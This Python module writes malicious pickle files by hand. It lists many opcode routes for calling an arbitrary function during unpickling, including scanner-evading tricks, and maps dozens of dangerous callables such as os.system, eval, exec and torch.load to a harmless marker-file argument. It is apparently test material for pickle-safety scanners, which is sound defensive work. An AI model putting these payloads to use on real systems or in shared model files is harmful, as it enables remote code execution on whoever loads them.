"""Writes pickles opcode by opcode, since the standard library's pickler writes only honest ones."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

MARK = b"("
STOP = b"."
REDUCE = b"R"
BUILD = b"b"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"


def text(value: str) -> bytes:
    """A string of protocol 1 and later."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(name: str) -> bytes:
    """A global "module:name" as protocols 0 to 3 write it."""
    module, _, attribute = name.partition(":")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def named_by_stack(name: str) -> bytes:
    """A global as protocol 4 writes it: its name may have been computed."""
    module, _, attribute = name.partition(":")
    return text(module) + text(attribute) + b"\x93"


def call(name: str, *arguments: bytes) -> bytes:
    """A call with arguments that are pickled already."""
    return named(name) + MARK + b"".join(arguments) + b"t" + REDUCE


def complete(body: bytes, protocol: int = 2) -> bytes:
    """The whole pickle."""
    head = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    return head + body + STOP


def routes(target: str, argument: str) -> Iterator[tuple[str, bytes]]:
    """Every way in which a pickle can call `target` with one text, by name."""
    module, _, attribute = target.partition(":")
    plain = text(argument)
    old_text = b"S" + repr(argument).encode() + b"\n"
    for protocol in range(6):
        yield f"reduce-{protocol}", complete(named(target) + MARK + plain + b"t" + REDUCE, protocol)
    yield "reduce-text", complete(named(target) + MARK + old_text + b"t" + REDUCE, 0)
    yield "stack-global", complete(named_by_stack(target) + plain + b"\x85" + REDUCE, 4)
    yield "inst", complete(MARK + plain + b"i" + module.encode() + b"\n" + attribute.encode() + b"\n", 0)
    yield "obj", complete(MARK + named(target) + plain + b"o", 1)
    yield "newobj", complete(named(target) + plain + b"\x85\x81", 2)
    yield "newobj-ex", complete(named(target) + plain + b"\x85" + EMPTY_DICT + b"\x92", 4)
    yield "memo", complete(named(target) + b"q\x00" + b"0" + b"h\x00" + plain + b"\x85" + REDUCE, 2)
    framed = named_by_stack(target) + plain + b"\x85" + REDUCE + STOP
    yield "framed", b"\x80\x04\x95" + struct.pack("<Q", len(framed)) + framed
    # An object whose own dictionary is given a __setstate__, which the next BUILD calls.
    instance = named("argparse:Namespace") + EMPTY_TUPLE + b"\x81"
    taught = EMPTY_DICT + text("__setstate__") + named(target) + b"s" + BUILD
    yield "build", complete(instance + taught + plain + BUILD, 2)
    yield "map", complete(call("builtins:list", call("builtins:map", named(target), b"]" + plain + b"a")), 2)
    yield "partial", complete(call("functools:partial", named(target), plain) + EMPTY_TUPLE + REDUCE, 2)
    imported = call("builtins:__import__", text(module))
    yield "getattr", complete(call("builtins:getattr", imported, text(attribute)) + plain + b"\x85" + REDUCE, 2)
    yield "import-module", complete(
        call("builtins:getattr", call("importlib:import_module", text(module)), text(attribute))
        + plain + b"\x85" + REDUCE, 2,
    )  # fmt: skip
    yield (
        "attrgetter",
        complete(
            call("operator:attrgetter", text(attribute)) + imported + b"\x85" + REDUCE + plain + b"\x85" + REDUCE, 2
        ),
    )
    yield "persistent", complete(MARK + text("storage") + named(target) + plain + b"\x85" + REDUCE + b"tQ", 2)
    yield "inside-key", complete(EMPTY_DICT + named(target) + plain + b"\x85" + REDUCE + b"K\x01s", 2)
    yield "after-stop", complete(EMPTY_DICT, 2) + complete(named(target) + plain + b"\x85" + REDUCE, 2)
    yield "ordered-dict-state", complete(
        named("collections:OrderedDict") + EMPTY_TUPLE + REDUCE + EMPTY_DICT + text("hook") + named(target) + plain
        + b"\x85" + REDUCE + b"s" + BUILD, 2,
    )  # fmt: skip


def python_code(mark: str) -> str:
    """An expression that leaves the mark."""
    return f"open({mark!r}, 'w').close()"


def gadgets(mark: str) -> Iterator[tuple[str, bytes]]:
    """Calls of functions that run text or programs, wherever they are known to lie, by name."""
    shell, code = f"touch {mark}", python_code(mark)
    one: dict[str, str] = {
        "os:system": shell, "posix:system": shell, "subprocess:getoutput": shell, "subprocess:check_output": "id",
        "builtins:eval": code, "builtins:exec": code, "__builtin__:eval": code, "__builtin__:execfile": mark,
        "__builtins__:eval": code, "timeit:timeit": code, "cProfile:run": code, "profile:run": code, "pdb:run": code,
        "bdb:Bdb.run": code, "trace:Trace.run": code, "code:interact": code, "runpy:run_path": mark,
        "torch.utils.collect_env:run": shell, "torch.utils.collect_env:run_and_read_all": shell,
        "torch.hub:load": mark, "torch:load": mark, "torch.serialization:load": mark, "torch.jit:load": mark,
        "torch.ops:load_library": mark, "torch.classes:load_library": mark, "torch._C:_jit_script_compile": code,
        "torch._utils:_import_dotted_name": "os.system",
        "torch.utils.data.datapipes.utils.decoder:basichandlers": mark,
        "torch.package:PackageImporter": mark, "torch.fx.graph_module:_forward_from_src": code,
        "torch._dynamo.guards:GuardBuilder": code, "torch.jit.unsupported_tensor_ops:execWrapper": code,
        "torch._inductor.codecache:PyCodeCache.load": code, "torch.utils._config_module:ConfigModule": code,
        "torch.storage:_load_from_bytes": mark, "torch.storage:TypedStorage._new_with_file": mark,
        "numpy.testing._private.utils:runstring": code, "numpy.f2py.crackfortran:myeval": code,
        "numpy.f2py.diagnose:run_command": shell, "numpy:load": mark,
        "numpy.distutils.exec_command:exec_command": shell,
        "pickle:loads": code, "_pickle:loads": code, "dill:loads": code, "joblib:load": mark,
        "cloudpickle:loads": code,
        "marshal:loads": code, "ctypes:CDLL": mark, "webbrowser:open": mark, "pydoc:pipepager": shell,
        "shutil:rmtree": mark, "os:remove": mark, "pathlib:Path.touch": mark, "logging.config:fileConfig": mark,
        "pip:main": mark, "ensurepip:_run_pip": mark, "idlelib.run:Executive": code,
        "lib2to3.pgen2.grammar:Grammar.loads": mark,
        "asyncio.unix_events:_UnixSubprocessTransport._start": shell, "multiprocessing.util:spawnv_passfds": mark,
        "keras.saving:load_model": mark, "keras.utils:get_file": mark, "tensorflow:load_library": mark,
        "transformers.dynamic_module_utils:get_class_in_module": mark, "types:CodeType": code,
        "torch._utils:sys.modules": code, "collections:OrderedDict.__init__.__globals__": code,
        "torch.nn.modules.module:torch.os.system": shell, "numpy.core.multiarray:os.system": shell,
        "torch:_utils.os.system": shell, "collections:_sys.modules": code, "torch.storage:os.system": shell,
        "torch.FloatStorage:__init__": code, "_codecs:lookup": mark, "copyreg:_reconstructor": code,
        "copyreg:add_extension": code, "argparse:Namespace.__init__": code, "site:execsitecustomize": code,
    }  # fmt: skip
    for name, argument in one.items():
        yield name.replace(":", "."), complete(call(name, text(argument)), 2)


Pickle = Callable[[str], Iterator[tuple[str, bytes]]]
